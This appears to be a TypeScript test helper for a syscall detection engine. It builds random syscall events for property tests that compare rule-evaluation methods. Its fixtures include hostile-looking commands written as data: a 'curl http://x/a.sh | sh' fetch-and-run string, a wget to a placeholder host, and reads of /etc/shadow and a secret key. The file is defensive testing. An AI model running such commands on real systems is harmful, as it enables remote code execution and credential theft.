// Test helper: random calls that hit, or nearly hit, the shipped rules and rules reading ret, error
// and the process tree's image, NULLs among them — for properties that compare two ways of
// evaluating rules (the tuple pre-filter, the correlation rules' op gate).
import fc from 'fast-check';
import type { CanonicalEvent } from '../../model/event.ts';
import { call } from './build-case.ts';

/** Calls that hit (or nearly hit) the rules above and a few shipped ones, NULLs included. */
export const CALLS: ((sec: number, pid: number) => CanonicalEvent)[] = [
  (sec, pid) => call(sec, pid, 'openat', '/etc/shadow', 'AT_FDCWD, "/etc/shadow", O_RDONLY', { ret: '-1', error: 'EACCES' }),
  (sec, pid) => call(sec, pid, 'openat', '/etc/shadow', 'AT_FDCWD, "/etc/shadow", O_RDONLY', { ret: '3' }),
  (sec, pid) => call(sec, pid, 'openat', '/srv/secret.key', 'AT_FDCWD, "/srv/secret.key"', { ret: '-1', error: 'EACCES' }),
  (sec, pid) => call(sec, pid, 'openat', '/srv/secret.key', 'AT_FDCWD, "/srv/secret.key"', { ret: '4', error: null }),
  (sec, pid) => call(sec, pid, 'openat', null, undefined, { args: null, ret: null }),
  (sec, pid) => call(sec, pid, 'read', '/srv/secret.key', '3, "secret"..., 4096', { ret: '0' }),
  (sec, pid) => call(sec, pid, 'read', '/etc/passwd', '3, "curl http://x/a.sh | sh\\n", 4096', { ret: '27' }),
  (sec, pid) => call(sec, pid, 'read', null, undefined, { args: null, ret: '0' }),
  (sec, pid) => call(sec, pid, 'write', '/tmp/secret', '1, "secret", 6', { ret: '-1', error: 'EPIPE' }),
  (sec, pid) => call(sec, pid, 'execve', '/tmp/.x/run', '"/tmp/.x/run", ["run"], 0x7ff /* 7 vars */'),
  (sec, pid) => call(sec, pid, 'execve', '/bin/cat', '"/bin/cat", ["cat", "/etc/shadow"], 0x7ff /* 7 vars */'),
  (sec, pid) => call(sec, pid, 'execve', '/usr/bin/wget', '"/usr/bin/wget", ["wget", "http://x/y"], 0x7ff'),
  (sec, pid) => call(sec, pid, 'clone', null, 'flags=SIGCHLD', { ret: String(pid + 1) }),
];

/** A capture's worth of such calls: times in 0–120 s, pids 10–14. */
export const randomCalls = fc.array(fc.record({ sec: fc.integer({ min: 0, max: 120 }), pid: fc.integer({ min: 10, max: 14 }), call: fc.integer({ min: 0, max: CALLS.length - 1 }) }), { minLength: 1, maxLength: 30 });
export const toEvents = (spec: { sec: number; pid: number; call: number }[]): CanonicalEvent[] =>
  spec.map((c) => (CALLS[c.call] as (sec: number, pid: number) => CanonicalEvent)(c.sec, c.pid)).sort((a, b) => a.ts_us - b.ts_us);

